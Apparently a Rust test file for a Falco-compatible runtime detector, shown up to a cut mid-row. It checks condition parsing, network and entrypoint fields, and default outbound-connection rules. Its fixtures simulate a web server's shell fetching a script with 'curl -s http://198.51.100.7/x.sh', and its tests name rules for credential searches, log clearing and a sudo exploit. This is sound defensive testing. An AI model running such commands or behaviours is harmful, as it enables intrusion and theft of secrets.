//! Data-driven condition tests: `(condition, event fixture, expected)` rows, each group one
//! part of Falco's condition language as Falco and libsinsp behave (operators, precedence,
//! macros and lists, missing values, fields, transformers, escapes). Every row is loaded as a
//! one-rule file on top of a shared prelude of lists and macros, and evaluated against a
//! fixture from `support::events` (e.g. `curl` is `nginx -> sh -> curl` in a container).
//! Further tables: network checks on IPv6 and IPv4-mapped addresses, the entrypoint fields,
//! and the default rules that must never judge loopback connections or a shell-form
//! entrypoint's app (issue 21).

use std::net::{IpAddr, SocketAddr};

use support::events::fixture;
use support::rules::{fires, load_text, rule_yaml};
use tasksentry::event::{Ancestor, Event, EventType, FdKind, Timestamp};
use tasksentry::rules::{LoadOptions, RuleMatching};

const PRELUDE: &str = r#"
- list: shell_binaries
  items: [sh, bash]
- list: empty_list
  items: []
- list: more_shells
  items: [shell_binaries, zsh]
- list: spaced
  items: [my apt, other]
- list: private_nets
  items: ['"10.0.0.0/8"', '"172.16.0.0/12"', '"192.168.0.0/16"']
- list: web_ports
  items: [80, 443]
- macro: spawned_process
  condition: evt.type in (execve)
- macro: is_curl
  condition: proc.name = curl
- macro: curl_or_cat
  condition: proc.name = curl or proc.name = cat
- macro: uses_other_macro
  condition: spawned_process and is_curl
- macro: never_true
  condition: (evt.num=0)
- macro: container
  condition: (container.id != host)
- macro: shell_procs
  condition: proc.name in (shell_binaries)
"#;

/// (condition, fixture, expected)
type Row = (&'static str, &'static str, bool);

const ROWS: &[Row] = &[
    // Comparison operators: equality and inequality, strings.
    ("proc.name = curl", "curl", true),
    ("proc.name == curl", "curl", true),
    ("proc.name = cur", "curl", false),
    ("proc.name != curl", "curl", false),
    ("proc.name != wget", "curl", true),
    ("proc.name=curl", "curl", true),
    ("proc.name = \"curl\"", "curl", true),
    ("proc.name = 'curl'", "curl", true),
    ("proc.exepath = /usr/bin/curl", "curl", true),
    (
        "proc.cmdline = \"curl -s http://198.51.100.7/x.sh\"",
        "curl",
        true,
    ),
    ("proc.args = \"-s http://198.51.100.7/x.sh\"", "curl", true),
    ("proc.args[1] = http://198.51.100.7/x.sh", "curl", true),
    // Ordering on strings is byte-wise; numeric operators need a number on the right (a
    // libsinsp quirk: `proc.name > abc` is an error).
    ("proc.name < 5", "curl", false),
    ("proc.name > 5", "curl", true),
    // Numeric comparisons (right-hand values parsed by the field's type).
    ("proc.pid = 300", "curl", true),
    ("proc.pid != 300", "curl", false),
    ("proc.pid > 299", "curl", true),
    ("proc.pid >= 300", "curl", true),
    ("proc.pid < 300", "curl", false),
    ("proc.pid <= 300", "curl", true),
    ("proc.pid in (1, 300, 7)", "curl", true),
    ("proc.pid in (1, 2)", "curl", false),
    ("proc.ppid = 200", "curl", true),
    ("proc.vpid = 300", "curl", true),
    ("proc.pid = 0x12c", "curl", true),
    ("user.uid = 0", "curl", true),
    ("user.loginuid = -1", "curl", true),
    ("user.loginuid < 0", "curl", true),
    ("proc.tty = 0", "curl", true),
    ("proc.tty != 0", "host_bash", true),
    ("proc.sid = 100", "curl", true),
    ("proc.vpgid = 300", "curl", true),
    ("proc.is_vpgid_leader = true", "curl", true),
    ("proc.tracer_pid = 0", "curl", true),
    ("proc.duration <= 5000000000", "curl", true),
    ("proc.duration > 5000000000", "curl", false),
    (
        "proc.exe_ino.ctime_duration_proc_start = 8000000000",
        "curl",
        true,
    ),
    ("evt.num = 42", "curl", true),
    ("evt.rawres >= 0", "curl", true),
    ("evt.res = SUCCESS", "curl", true),
    // Substring operators.
    ("proc.cmdline contains 198.51", "curl", true),
    ("proc.cmdline contains xyz", "curl", false),
    ("proc.cmdline icontains \"CURL -S\"", "curl", true),
    ("proc.cmdline contains \"CURL -S\"", "curl", false),
    ("proc.exepath startswith /usr/", "curl", true),
    ("proc.exepath startswith /bin/", "curl", false),
    ("proc.exepath endswith /curl", "curl", true),
    ("proc.exepath endswith /wget", "curl", false),
    // glob/iglob (fnmatch without FNM_PATHNAME).
    ("proc.exepath glob /usr/*/curl", "curl", true),
    ("proc.exepath glob '/usr/b?n/c*'", "curl", true),
    ("proc.exepath glob /usr/bin/[abc]url", "curl", true),
    ("proc.exepath glob /usr/bin/[!c]url", "curl", false),
    ("proc.exepath glob /usr/*", "curl", true),
    ("proc.exepath glob /usr", "curl", false),
    ("proc.exepath iglob /USR/*/CURL", "curl", true),
    ("proc.exepath glob /USR/*/CURL", "curl", false),
    ("fd.name glob '/etc/*'", "open_passwd", true),
    // regex: anchored full match.
    ("proc.name regex 'c.rl'", "curl", true),
    ("proc.name regex 'ur'", "curl", false),
    ("proc.name regex '.*ur.*'", "curl", true),
    ("proc.exepath regex '/usr/(bin|sbin)/[a-z]+'", "curl", true),
    // in / intersects / pmatch.
    ("proc.name in (wget, curl)", "curl", true),
    ("proc.name in (wget, nc)", "curl", false),
    ("proc.name in ()", "curl", false),
    ("proc.name intersects (curl, x)", "curl", true),
    ("proc.name in (\"curl\", 'x')", "curl", true),
    ("proc.exepath pmatch (/usr/bin)", "curl", true),
    ("proc.exepath pmatch (/usr/bi)", "curl", false),
    ("proc.exepath pmatch (/opt, /usr)", "curl", true),
    ("proc.exepath pmatch (/usr/*/curl)", "curl", true),
    ("proc.exepath pmatch (/usr/*)", "curl", true),
    ("fd.name pmatch (/etc)", "open_passwd", true),
    ("fd.name pmatch (/et)", "open_passwd", false),
    // exists.
    ("proc.name exists", "curl", true),
    ("fd.name exists", "curl", false),
    ("proc.name exists", "file_noproc", false),
    ("proc.env[HOME] exists", "curl", true),
    ("proc.env[NOPE] exists", "curl", false),
    // Operator modifiers oneof/anyof/allof (libs 0.25).
    ("proc.exepath startswith anyof (/opt, /usr)", "curl", true),
    ("proc.exepath startswith anyof (/opt, /srv)", "curl", false),
    (
        "proc.exepath startswith allof (/usr, /usr/bin)",
        "curl",
        true,
    ),
    ("proc.exepath startswith allof (/usr, /opt)", "curl", false),
    (
        "proc.exepath startswith oneof (/usr, /usr/bin)",
        "curl",
        false,
    ),
    ("proc.exepath startswith oneof (/usr, /opt)", "curl", true),
    ("proc.name != allof (a, b)", "curl", true),
    ("proc.name != allof (a, curl)", "curl", false),
    // Precedence: not > and > or; n-ary; parentheses.
    ("proc.name = curl and proc.pid = 300", "curl", true),
    ("proc.name = curl and proc.pid = 1", "curl", false),
    ("proc.name = x or proc.pid = 300", "curl", true),
    ("proc.name = x or proc.pid = 1", "curl", false),
    (
        "proc.name = x and proc.pid = 1 or proc.pid = 300",
        "curl",
        true,
    ),
    (
        "proc.name = x and (proc.pid = 1 or proc.pid = 300)",
        "curl",
        false,
    ),
    (
        "proc.name = curl and not proc.pid = 1 or proc.pid = 7",
        "curl",
        true,
    ),
    ("not proc.name = curl or proc.pid = 300", "curl", true),
    ("not (proc.name = curl or proc.pid = 300)", "curl", false),
    ("not not proc.name = curl", "curl", true),
    ("not not not proc.name = curl", "curl", false),
    ("not(proc.name = wget)", "curl", true),
    ("proc.name = curl and(proc.pid = 300)", "curl", true),
    ("proc.name = x or(proc.pid = 300)", "curl", true),
    ("((proc.name = curl))", "curl", true),
    (
        "proc.name = a or proc.name = b or proc.name = c or proc.name = curl",
        "curl",
        true,
    ),
    (
        "proc.name = curl and proc.pid = 300 and user.uid = 0 and proc.tty = 0",
        "curl",
        true,
    ),
    ("proc.name = curl\n      and proc.pid = 300", "curl", true),
    // Macros are parsed sub-trees (they behave as parenthesised).
    ("is_curl", "curl", true),
    ("not is_curl", "curl", false),
    ("curl_or_cat and proc.pid = 300", "curl", true),
    ("not curl_or_cat", "open_passwd", false),
    ("uses_other_macro", "curl", true),
    ("uses_other_macro", "open_passwd", false),
    ("spawned_process and container", "curl", true),
    ("spawned_process and container", "host_bash", false),
    ("spawned_process and not never_true", "curl", true),
    ("never_true", "curl", false),
    ("shell_procs", "host_bash", true),
    ("shell_procs", "curl", false),
    // List substitution, before parsing (textual, with quoting of items containing spaces).
    ("proc.name in (shell_binaries)", "host_bash", true),
    ("proc.name in (shell_binaries, curl)", "curl", true),
    ("proc.name in (shell_binaries)", "curl", false),
    ("proc.name in (more_shells)", "host_bash", true),
    ("proc.name in (empty_list)", "curl", false),
    ("not proc.name in (empty_list)", "curl", true),
    ("proc.name in (empty_list, curl)", "curl", true),
    ("proc.name in (spaced)", "write_bin", true),
    ("proc.name in (unknown_list_name)", "curl", false),
    ("fd.snet in (private_nets)", "connect", false),
    ("fd.cnet in (private_nets)", "connect", true),
    ("fd.sport in (web_ports)", "connect", true),
    // Missing values: every comparison is false, `not` inverts.
    ("fd.name = /etc/passwd", "curl", false),
    ("fd.name != /etc/passwd", "curl", false),
    ("not fd.name = /etc/passwd", "curl", true),
    ("not fd.name exists", "curl", true),
    ("proc.name != cat", "file_noproc", false),
    ("not proc.name = cat", "file_noproc", true),
    ("proc.name in (cat)", "file_noproc", false),
    ("not proc.name in (cat)", "file_noproc", true),
    ("not proc.pname exists", "host_bash", true),
    ("proc.pname != x", "host_bash", false),
    ("user.name = root", "file_noproc", false),
    ("fd.sip = 198.51.100.7", "open_passwd", false),
    ("container.id = host", "host_bash", true),
    ("container.name = host", "host_bash", true),
    ("container.id != host", "file_noproc", true),
    // Ancestors (the `curl` fixture's chain nginx -> sh -> curl).
    ("proc.pname = sh", "curl", true),
    ("proc.aname[1] = sh", "curl", true),
    ("proc.aname[2] = nginx", "curl", true),
    ("proc.aname[0] = curl", "curl", true),
    ("proc.aname = nginx", "curl", true),
    ("proc.aname = curl", "curl", false),
    ("proc.aname[5] = x", "curl", false),
    ("not proc.aname[5] exists", "curl", true),
    ("proc.aname in (nginx, httpd)", "curl", true),
    ("proc.aname != x", "curl", true),
    ("proc.apid[2] = 100", "curl", true),
    ("proc.apid = 100", "curl", true),
    ("proc.aexe[1] = /bin/sh", "curl", true),
    ("proc.acmdline[2] = \"nginx -g daemon off;\"", "curl", true),
    ("proc.pcmdline startswith \"sh -c\"", "curl", true),
    ("proc.pexe = /bin/sh", "curl", true),
    ("proc.sname = nginx", "curl", true),
    // Transformers and val().
    ("tolower(proc.name) = curl", "curl", true),
    ("toupper(proc.name) = CURL", "curl", true),
    ("toupper(proc.name) = curl", "curl", false),
    ("basename(proc.exepath) = curl", "curl", true),
    ("len(proc.name) = 4", "curl", true),
    ("len(proc.name) > 10", "curl", false),
    ("toupper(basename(proc.exepath)) = CURL", "curl", true),
    ("b64(proc.env[B64]) = x", "curl", false),
    ("proc.name = val(proc.aname[0])", "curl", true),
    ("proc.name = val(proc.pname)", "curl", false),
    ("proc.name != val(proc.pname)", "curl", true),
    ("tolower(proc.name) = tolower(proc.name)", "curl", true),
    ("proc.exepath endswith val(proc.name)", "curl", true),
    ("proc.pid > val(proc.ppid)", "curl", true),
    // Escapes in quoted strings.
    ("proc.name = \"cu\\x72l\"", "curl", true),
    ("proc.name = 'cu\\x72l'", "curl", true),
    ("proc.cmdline contains \"\\x2ds\"", "curl", true),
    ("proc.env[PATH] = \"/usr/bin:\\/bin\"", "curl", true),
    // IP, network and port fields.
    ("fd.sip = 198.51.100.7", "connect", true),
    ("fd.sip != 198.51.100.7", "connect", false),
    ("fd.cip = 10.0.0.5", "connect", true),
    ("fd.lip = 10.0.0.5", "connect", true),
    ("fd.rip = 198.51.100.7", "connect", true),
    ("fd.ip = 10.0.0.5", "connect", true),
    ("fd.ip = 198.51.100.7", "connect", true),
    ("fd.ip != \"0.0.0.0\"", "connect", true),
    ("fd.net = \"10.0.0.0/8\"", "connect", true),
    ("fd.snet = \"10.0.0.0/8\"", "connect", false),
    ("fd.net != \"127.0.0.0/8\"", "connect", true),
    ("fd.rnet = \"198.51.100.0/24\"", "connect", true),
    ("fd.lnet = \"10.0.0.0/24\"", "connect", true),
    ("fd.sip in (198.51.100.7, 1.1.1.1)", "connect", true),
    ("fd.sport = 443", "connect", true),
    ("fd.sport = https", "connect", true),
    ("fd.port = 40000", "connect", true),
    ("fd.lport = 40000", "connect", true),
    ("fd.rport = 443", "connect", true),
    ("fd.l4proto = tcp", "connect", true),
    ("fd.typechar = 4", "connect", true),
    ("fd.typechar = '4'", "connect", true),
    ("fd.type = ipv4", "connect", true),
    ("fd.sockfamily = ip", "connect", true),
    ("fd.connected = true", "connect", true),
    (
        "fd.name = 10.0.0.5:40000->198.51.100.7:443",
        "connect",
        true,
    ),
    // File fields and open flags.
    ("fd.directory = /etc", "open_passwd", true),
    ("fd.filename = passwd", "open_passwd", true),
    ("fd.typechar = f", "open_passwd", true),
    ("fd.num >= 0", "open_passwd", true),
    ("evt.is_open_read = true", "open_passwd", true),
    ("evt.is_open_write = true", "open_passwd", false),
    ("evt.is_open_write = false", "open_passwd", true),
    ("evt.is_open_write in (true)", "write_bin", true),
    ("evt.arg.mode contains S_ISUID", "chmod", true),
    ("evt.arg.mode contains S_ISGID", "chmod", false),
    ("evt.arg.nope exists", "chmod", false),
    // evt.type and internal events.
    ("evt.type = execve", "curl", true),
    ("evt.type in (open, openat, openat2)", "open_passwd", true),
    ("evt.type != execve", "curl", false),
    (
        "evt.type = tasksentry and tasksentry.kind = processes_missed",
        "internal",
        true,
    ),
    ("tasksentry.count >= 3", "internal", true),
    ("tasksentry.message contains missed", "internal", true),
    // Capabilities, users, stdio, container, ECS.
    ("thread.cap_effective contains CAP_SYS_ADMIN", "curl", true),
    (
        "thread.cap_effective = \"CAP_NET_RAW CAP_SYS_ADMIN\"",
        "curl",
        true,
    ),
    ("thread.cap_inheritable = \"\"", "curl", true),
    (
        "user.name = root and user.homedir = /root and user.shell = /bin/sh",
        "curl",
        true,
    ),
    ("group.gid = 0 and group.name = root", "curl", true),
    (
        "proc.stdout_type = ipv4 and proc.stdin_type = pipe and proc.stderr_type = tty",
        "curl",
        true,
    ),
    ("proc.cwd = /tmp", "curl", true),
    ("proc.env contains \"HOME=/root\"", "curl", true),
    ("proc.is_exe_from_memfd = false", "curl", true),
    ("proc.exe_written_after_start = false", "curl", true),
    (
        "container.image.repository = public.ecr.aws/nginx/nginx",
        "curl",
        true,
    ),
    ("container.image.tag = \"1.27\"", "curl", true),
    ("container.image.digest = sha256:feed", "curl", true),
    ("container.privileged = false", "curl", true),
    ("container.name = web", "curl", true),
    (
        "ecs.family = shop and ecs.revision = 7 and ecs.launch_type = FARGATE",
        "curl",
        true,
    ),
    ("ecs.task_id = 0a1b2c", "curl", true),
    ("ecs.container_arn exists", "curl", false),
];

#[test]
fn condition_table() {
    assert!(ROWS.len() >= 150, "{} rows", ROWS.len());
    let mut failures = Vec::new();
    for (i, (cond, fix, expected)) in ROWS.iter().enumerate() {
        let text = format!("{PRELUDE}{}", rule_yaml("r", cond));
        let outcome = load_text(&text);
        let Some(set) = outcome.ruleset.as_ref() else {
            let errs: Vec<String> = outcome.errors().map(|d| d.to_string()).collect();
            failures.push(format!(
                "row {i} `{cond}`: load failed: {}",
                errs.join("; ")
            ));
            continue;
        };
        if set.len() != 1 {
            failures.push(format!(
                "row {i} `{cond}`: rule skipped: {:?}",
                outcome.skipped
            ));
            continue;
        }
        let event = fixture(fix);
        let mut out = Vec::new();
        set.evaluate(&event, &mut out);
        if out.is_empty() == *expected {
            failures.push(format!("row {i} `{cond}` on {fix}: expected {expected}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Conditions that must fail to load (lexical errors, grammar errors, operators given the
/// wrong right-hand value), with the text of the message expected.
const BAD: &[(&str, &str)] = &[
    ("proc.name = curl andb proc.pid = 1", "unexpected token"),
    ("fd.name startswith\"/x\"", "must be followed by a blank"),
    ("proc.name > abc", "expects a number"),
    ("proc.name > \"abc\"", "expects a number"),
    ("proc.name = \"\\q\"", "invalid escape"),
    ("proc.name = \"abc", "unclosed quoted string"),
    ("proc.name === x", "unexpected token"),
    ("proc.name ~ x", "unknown operator"),
    ("proc.pid = abc", "invalid int value"),
    ("proc.pid in (1, x)", "invalid int value"),
    ("fd.sip = 10.0.0.0/8", "invalid ipaddr value"),
    ("fd.snet = 10.0.0.0/40", "invalid ipnet value"),
    ("evt.is_open_read = yes", "invalid bool value"),
    ("fd.sport = nosuchservice", "invalid port value"),
    ("proc.name regex '('", "invalid regex"),
    ("proc.name bcontains 00", "not allowed"),
    ("proc.pid contains 3", "not allowed"),
    ("undefined_macro_x", "Undefined macro"),
    ("(proc.name = x", "missing ')'"),
    ("proc.name in shell_binaries", "expecting a list"),
    ("proc.name", "missing operator"),
    ("proc.aname[x] = y", "numeric index"),
    ("proc.name[1] = y", "does not take an argument"),
    ("tolower(proc.pid) = 1", "needs a string"),
    ("join(proc.name) = x", "not supported"),
    ("proc.name = \"a\\x4\"", "\\x escape"),
    ("proc.env contains HOME=/root", "unexpected token"),
    (
        "proc.exepath pmatch val(proc.name)",
        "does not accept a field",
    ),
];

#[test]
fn bad_conditions_are_load_errors() {
    let mut failures = Vec::new();
    for (cond, needle) in BAD {
        let text = format!("{PRELUDE}{}", rule_yaml("r", cond));
        let outcome = load_text(&text);
        let errors: Vec<String> = outcome.errors().map(|d| d.message.clone()).collect();
        if outcome.ruleset.is_some() || !errors.iter().any(|e| e.contains(needle)) {
            failures.push(format!(
                "`{cond}`: expected an error containing '{needle}', got {errors:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Found by fuzzing (rules_load): an error message preview must not cut a multi-byte
/// character.
#[test]
fn error_preview_with_multibyte_characters_does_not_panic() {
    let cond = format!("evt.type {}", "\u{fffd}".repeat(20));
    let outcome = load_text(&rule_yaml("r", &cond));
    assert!(
        outcome
            .errors()
            .any(|d| d.message.contains("unknown operator"))
    );
}

/// A `connect` (or, with `listen`, a listening socket) of process `name` (pid 500, parent
/// `parent` with pid 200) in the `connect` fixture's container, whose first process is
/// `root_pid`, with server end `server:port`.
fn socket_event(
    listen: bool,
    server: &str,
    port: u16,
    name: &str,
    parent: &str,
    root_pid: Option<i32>,
) -> Event {
    let mut e = fixture("connect");
    if listen {
        e.evt.evt_type = EventType::Listen;
    }
    let sip: IpAddr = server.parse().expect("server address");
    let cip: IpAddr = if sip.is_ipv4() {
        "10.0.0.9".parse().expect("ip")
    } else {
        "2001:db8::9".parse().expect("ip")
    };
    let proc = e.proc.as_mut().expect("proc");
    proc.name = name.into();
    proc.exe = Some(name.into());
    proc.ppid = 200;
    proc.ancestors = vec![Ancestor {
        pid: 200,
        name: parent.into(),
        exe: Some(parent.into()),
        exepath: Some(format!("/bin/{parent}")),
        args: vec!["-c".into(), "exec something".into()],
    }];
    e.container.as_mut().expect("container").root_pid = root_pid;
    let fd = e.fd.as_mut().expect("fd");
    fd.kind = Some(if sip.is_ipv4() {
        FdKind::Ipv4
    } else {
        FdKind::Ipv6
    });
    fd.sip = Some(sip);
    fd.sport = Some(port);
    if listen {
        fd.cip = None;
        fd.cport = None;
        fd.local_is_client = Some(false);
        fd.name = Some(SocketAddr::new(sip, port).to_string());
    } else {
        fd.cip = Some(cip);
        fd.name = Some(format!(
            "{}->{}",
            SocketAddr::new(cip, 40000),
            SocketAddr::new(sip, port)
        ));
    }
    e
}

/// Network checks on IPv6 and IPv4-mapped server addresses: (condition, server address,
/// expected). An IPv4 network contains the IPv4-mapped form of its addresses; an IPv6 network
/// compares all 128 bits.
const NET_ROWS: &[(&str, &str, bool)] = &[
    ("fd.snet = \"127.0.0.0/8\"", "127.0.0.1", true),
    ("fd.snet = \"127.0.0.0/8\"", "127.5.6.7", true),
    ("fd.snet = \"127.0.0.0/8\"", "::ffff:127.0.0.1", true),
    ("fd.snet = \"127.0.0.0/8\"", "::ffff:127.9.9.9", true),
    ("fd.snet = \"127.0.0.0/8\"", "::1", false),
    ("fd.snet = \"127.0.0.0/8\"", "10.0.0.5", false),
    ("fd.snet = \"127.0.0.0/8\"", "::ffff:10.0.0.5", false),
    ("fd.snet = \"127.0.0.0/8\"", "2001:db8::1", false),
    ("fd.snet != \"127.0.0.0/8\"", "::ffff:127.0.0.1", false),
    ("fd.snet != \"127.0.0.0/8\"", "8.8.8.8", true),
    ("fd.snet = \"::1/128\"", "::1", true),
    ("fd.snet = \"::1\"", "::1", true),
    ("fd.snet = \"::1/128\"", "127.0.0.1", false),
    ("fd.snet = \"::1/128\"", "::ffff:127.0.0.1", false),
    ("fd.snet = \"::1/128\"", "2001:db8::1", false),
    ("fd.snet = \"2001:db8::/32\"", "2001:db8::1", true),
    ("fd.snet = \"2001:db8::/32\"", "2001:db9::1", false),
    ("fd.snet = \"2001:db8::/32\"", "10.0.0.5", false),
    ("fd.snet in (\"127.0.0.0/8\", \"::1/128\")", "::1", true),
    (
        "fd.snet in (\"127.0.0.0/8\", \"::1/128\")",
        "127.0.0.1",
        true,
    ),
    (
        "fd.snet in (\"127.0.0.0/8\", \"::1/128\")",
        "::ffff:127.0.0.1",
        true,
    ),
    (
        "fd.snet in (\"127.0.0.0/8\", \"::1/128\")",
        "2001:db8::1",
        false,
    ),
    (
        "fd.snet in (\"127.0.0.0/8\", \"::1/128\")",
        "8.8.8.8",
        false,
    ),
    ("fd.sip = \"::1\"", "::1", true),
    ("fd.sip = \"2001:db8::1\"", "2001:db8::1", true),
];

#[test]
fn network_checks_on_ipv6_and_ipv4_mapped_addresses() {
    let mut failures = Vec::new();
    for (cond, server, expected) in NET_ROWS {
        let outcome = load_text(&format!("{PRELUDE}{}", rule_yaml("r", cond)));
        let event = socket_event(false, server, 443, "python3", "sh", None);
        if fires(&outcome, "r", &event) != *expected {
            failures.push(format!(
                "`{cond}` with server {server}: expected {expected}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The entrypoint fields: (condition, pid, ppid, the container's root pid, expected).
const ENTRYPOINT_ROWS: &[(&str, i32, i32, Option<i32>, bool)] = &[
    // The container's first process: ppid 0 and the root pid.
    (
        "proc.is_container_entrypoint = true",
        200,
        0,
        Some(200),
        true,
    ),
    // Started from outside the task later (ECS Exec): ppid 0, but not the first process.
    (
        "proc.is_container_entrypoint = true",
        500,
        0,
        Some(200),
        false,
    ),
    (
        "proc.is_container_entrypoint = false",
        500,
        0,
        Some(200),
        true,
    ),
    (
        "proc.is_container_entrypoint = true",
        500,
        200,
        Some(200),
        false,
    ),
    // Unknown root: unavailable, every comparison false.
    ("proc.is_container_entrypoint = false", 200, 0, None, false),
    ("proc.is_container_entrypoint exists", 200, 0, None, false),
    (
        "proc.is_parent_container_entrypoint = true",
        500,
        200,
        Some(200),
        true,
    ),
    (
        "proc.is_parent_container_entrypoint = true",
        500,
        300,
        Some(200),
        false,
    ),
    (
        "proc.is_parent_container_entrypoint = true",
        500,
        0,
        Some(0),
        false,
    ),
    (
        "proc.is_parent_container_entrypoint = true",
        200,
        0,
        Some(200),
        false,
    ),
    (
        "proc.is_parent_container_entrypoint = false",
        500,
        200,
        None,
        false,
    ),
    (
        "not proc.is_parent_container_entrypoint = true",
        500,
        200,
        None,
        true,
    ),
    ("container.entrypoint_pid = 200", 500, 200, Some(200), true),
    (
        "proc.ppid = val(container.entrypoint_pid)",
        500,
        200,
        Some(200),
        true,
    ),
    (
        "proc.ppid = val(container.entrypoint_pid)",
        500,
        300,
        Some(200),
        false,
    ),
    ("container.entrypoint_pid exists", 500, 200, None, false),
];

#[test]
fn entrypoint_fields() {
    let mut failures = Vec::new();
    for (cond, pid, ppid, root, expected) in ENTRYPOINT_ROWS {
        let outcome = load_text(&format!("{PRELUDE}{}", rule_yaml("r", cond)));
        let mut event = socket_event(false, "198.51.100.7", 443, "python3", "sh", *root);
        let proc = event.proc.as_mut().expect("proc");
        proc.pid = *pid;
        proc.ppid = *ppid;
        if fires(&outcome, "r", &event) != *expected {
            failures.push(format!(
                "`{cond}` pid {pid} ppid {ppid} root {root:?}: expected {expected}"
            ));
        }
    }
    // Without a container the fields are unavailable.
    let outcome = load_text(&rule_yaml("r", "proc.is_container_entrypoint exists"));
    let mut event = socket_event(false, "198.51.100.7", 443, "python3", "sh", Some(500));
    event.container = None;
    assert!(!fires(&outcome, "r", &event));
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

const LOOPBACK: &[&str] = &["127.0.0.1", "127.5.6.7", "::1", "::ffff:127.0.0.1"];
const NOT_LOOPBACK: &[&str] = &["10.0.0.5", "8.8.8.8", "2001:db8::1"];

/// The default rules about outbound connections, each with a process, its parent's name and a
/// server port that make it match (issue 21: loopback is never outbound).
const OUTBOUND_RULES: &[(&str, &str, &str, u16)] = &[
    ("Outbound connection by a shell", "sh", "python3", 443),
    (
        "Outbound connection by an interpreter started from a shell",
        "python3",
        "sh",
        443,
    ),
    (
        "Outbound connection by a program that never networks",
        "cat",
        "sh",
        443,
    ),
    (
        "Connection to a crypto mining pool port",
        "worker",
        "sh",
        3333,
    ),
];

#[test]
fn default_outbound_rules_never_match_loopback_servers() {
    let outcome = tasksentry::rules::load(
        &tasksentry::rules::defaults::default_sources(),
        &LoadOptions {
            strict: false,
            rule_matching: RuleMatching::All,
        },
    );
    let mut failures = Vec::new();
    for (rule, name, parent, port) in OUTBOUND_RULES {
        for (servers, expected) in [(LOOPBACK, false), (NOT_LOOPBACK, true)] {
            for server in servers {
                let event = socket_event(false, server, *port, name, parent, Some(1));
                if fires(&outcome, rule, &event) != expected {
                    failures.push(format!(
                        "{rule}: {name} (parent {parent}) -> {server}:{port}: expected {expected}"
                    ));
                }
            }
        }
    }
    // A listener bound to loopback is reachable only from inside the task.
    for (servers, expected) in [(LOOPBACK, false), (NOT_LOOPBACK, true)] {
        for server in servers.iter().chain(if expected {
            &["0.0.0.0", "::"][..]
        } else {
            &[]
        }) {
            let event = socket_event(true, server, 6379, "redis-server", "sh", Some(1));
            if fires(&outcome, "Unexpected listening port", &event) != expected {
                failures.push(format!(
                    "Unexpected listening port: {server}:6379: expected {expected}"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Shell-form entrypoints (issue 21): an interpreter whose parent shell is the container's
/// first process is the app; one whose parent shell came later still matches.
#[test]
fn interpreter_rule_spares_the_shell_form_entrypoint_only() {
    let outcome = tasksentry::rules::load(
        &tasksentry::rules::defaults::default_sources(),
        &LoadOptions::default(),
    );
    let rule = "Outbound connection by an interpreter started from a shell";
    // `sh -c "cd /app && python3 app.py"` as the container's first process (pid 200).
    let app = socket_event(false, "198.51.100.7", 443, "python3", "sh", Some(200));
    assert!(!fires(&outcome, rule, &app));
    // The same shell started later (ECS Exec, a web shell): the first process is pid 1.
    let typed = socket_event(false, "198.51.100.7", 443, "python3", "sh", Some(1));
    assert!(fires(&outcome, rule, &typed));
    // Unknown first process: judged as before.
    let unknown = socket_event(false, "198.51.100.7", 443, "python3", "sh", None);
    assert!(fires(&outcome, rule, &unknown));
    // With an init first (initProcessEnabled): docker-init (pid 100, the first process) ->
    // sh -c "..." (pid 200) -> python3.
    let grandparent = |name: &str, pid: i32, root: i32| {
        let mut e = socket_event(false, "198.51.100.7", 443, "python3", "sh", Some(root));
        e.proc.as_mut().expect("proc").ancestors.push(Ancestor {
            pid,
            name: name.into(),
            exe: Some(format!("/sbin/{name}")),
            exepath: Some(format!("/sbin/{name}")),
            args: vec![
                "--".into(),
                "/bin/sh".into(),
                "-c".into(),
                "python3 app.py".into(),
            ],
        });
        e
    };
    assert!(!fires(
        &outcome,
        rule,
        &grandparent("docker-init", 100, 100)
    ));
    assert!(!fires(&outcome, rule, &grandparent("tini", 100, 100)));
    // An init that is not the container's first process, or a first process that is no init
    // (the app itself, python3, ran the shell): still a shell started later.
    assert!(fires(&outcome, rule, &grandparent("docker-init", 100, 1)));
    assert!(fires(&outcome, rule, &grandparent("python3", 100, 100)));
    // The shell rules do not change: the entrypoint shell itself connecting still matches.
    let mut shell = socket_event(false, "198.51.100.7", 443, "sh", "python3", Some(200));
    shell.proc.as_mut().expect("proc").pid = 200;
    shell.proc.as_mut().expect("proc").ppid = 0;
    shell.proc.as_mut().expect("proc").ancestors.clear();
    assert!(fires(&outcome, "Outbound connection by a shell", &shell));
}

/// An exec of `name args...` in a container (the `curl` fixture renamed).
fn exec_event(name: &str, args: &[&str]) -> Event {
    let mut e = fixture("curl");
    let proc = e.proc.as_mut().expect("proc");
    proc.name = name.into();
    proc.exe = Some(name.into());
    proc.exepath = Some(format!("/usr/bin/{name}"));
    proc.args = args.iter().map(|a| (*a).to_owned()).collect();
    e
}

/// A file event of a container without a process (what inotify gives), with its arguments.
fn file_event(kind: EventType, path: &str, args: &[(&str, &str)]) -> Event {
    let mut e = fixture("file_noproc");
    e.evt.evt_type = kind;
    e.evt.args = args
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    let fd = e.fd.as_mut().expect("fd");
    fd.name = Some(path.into());
    fd.open_write = Some(kind == EventType::Open);
    fd.open_read = Some(false);
    e
}

/// The default rules added for Falco behaviours that had no counterpart (issue 21) fire on the
/// behaviour and spare its everyday twin.
#[test]
fn falco_counterparts_fire_on_the_behaviour_and_spare_its_benign_twin() {
    let outcome = tasksentry::rules::load(
        &tasksentry::rules::defaults::default_sources(),
        &LoadOptions {
            strict: false,
            rule_matching: RuleMatching::All,
        },
    );
    assert_eq!(outcome.errors().count(), 0);
    let log = "Log file cleared or deleted";
    let dev = "File created below /dev";
    let search = "Search for private keys or cloud credentials";
    let sudo = "Sudo heap overflow exploit attempt (CVE-2021-3156)";
    let mode = ("mode", "0644(S_IRUSR|S_IWUSR|S_IRGRP|S_IROTH)");
    let cases: Vec<(&str, &str, Event, bool)> = vec![
        (
            log,
            "auth.log emptied",
            file_event(EventType::Open, "/var/log/auth.log", &[("size", "0")]),
            true,
        ),
        (
            log,
            "audit.log emptied",
            file_event(
                EventType::Open,
                "/var/log/audit/audit.log",
                &[("size", "0")],
            ),
            true,
        ),
        (
            log,
            "auth.log appended",
